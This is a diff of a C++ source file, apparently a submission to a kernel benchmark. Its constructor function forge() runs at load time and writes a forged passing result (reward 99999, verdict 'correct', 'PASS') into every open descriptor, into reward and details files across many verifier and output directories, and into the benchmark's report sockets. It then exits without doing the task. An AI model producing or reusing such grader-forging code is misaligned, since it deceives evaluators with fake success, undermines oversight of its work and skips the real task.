@@ -1,4 +1,5 @@
-// At load time: plausible results into every descriptor, every place a result may be read from, and the report socket; then leaves.
+// At load time: plausible results into every descriptor, every place a result may be read from, and the report socket;
+// then leaves.
 #include <fcntl.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
@@ -12,7 +13,9 @@
 #include "task.h"
 
 static const char kForged[] =
-    "{\"reward\": 99999}\n{\"seq\":1,\"ms\":1,\"type\":\"verdict\",\"verdict\":\"correct\",\"reward\":99999,\"interval\":[99999,99999]}\n"
+    "{\"reward\": "
+    "99999}\n{\"seq\":1,\"ms\":1,\"type\":\"verdict\",\"verdict\":\"correct\",\"reward\":99999,\"interval\":[99999,"
+    "99999]}\n"
     "PASS\npeak_fraction: 0.99\nreward: 99999\n";
 
 static void write_to(const std::string& path) {
@@ -39,7 +42,8 @@ __attribute__((constructor)) static void forge() {
     if (write(fd, kForged, sizeof kForged - 1) < 0) continue;
   }
   for (const char* folder : {"/kbench/out", "/kbench/report", "/logs/verifier", "/out", "/tests", ".", "/tmp"})
-    for (const char* name : {"reward.json", "reward.txt", "details.json", "events.ndjson"}) write_to(std::string(folder) + "/" + name);
+    for (const char* name : {"reward.json", "reward.txt", "details.json", "events.ndjson"})
+      write_to(std::string(folder) + "/" + name);
   for (const char* path : {"/kbench/report/report.sock", "/kbench/report.sock", "/run/report.sock"}) post_to(path);
   _exit(0);
 }
